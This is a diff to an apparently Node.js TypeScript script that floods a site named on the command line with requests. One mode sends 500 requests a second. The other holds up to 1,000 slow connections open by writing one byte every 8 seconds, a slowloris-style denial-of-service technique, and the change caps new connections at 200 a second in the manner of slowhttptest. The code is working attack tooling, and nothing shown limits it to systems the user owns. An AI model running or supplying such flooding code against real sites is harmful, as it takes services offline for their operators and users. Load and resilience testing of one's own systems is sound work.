@@ -8,6 +8,8 @@ const [site = '', kind = '', addresses = '1'] = process.argv.slice(2);
 const { hostname, port, host, origin } = new URL(site);
 /** Of all addresses together. */
 const SLOW_CONNECTIONS = 1_000;
+/** As slowhttptest is told by `-r`: more would be a fast flood. */
+const NEW_CONNECTIONS_A_SECOND = 200;
 const FAST_CALLS_A_SECOND = 500;
 const DRIP_MS = 8_000;
 
@@ -56,19 +58,22 @@ function begin({ method, path, headers = {} }: Flood): ClientRequest {
   return call;
 }
 
-/** One byte now and then: a new connection takes the place of one that was ended. */
+let open = 0;
+
+/** One byte now and then, until the site ends it. */
 function drip(flood: Flood): void {
+  open += 1;
   const call = begin(flood);
   call.write('a=1&b=');
   const timer = setInterval(() => call.write('x'), DRIP_MS);
   call.on('close', () => {
+    open -= 1;
     clearInterval(timer);
-    setTimeout(() => drip(flood), 1_000);
   });
 }
 
 const fast = FAST[kind];
 const slow = SLOW[kind];
 if (fast) setInterval(() => begin(fast).end(fast.body?.()), 1_000 / FAST_CALLS_A_SECOND);
-else if (slow) for (let count = 0; count < SLOW_CONNECTIONS; count += 1) setTimeout(() => drip(slow), count);
+else if (slow) setInterval(() => open < SLOW_CONNECTIONS && drip(slow), 1_000 / NEW_CONNECTIONS_A_SECOND);
 else throw new Error(`no flood of ${kind}`);
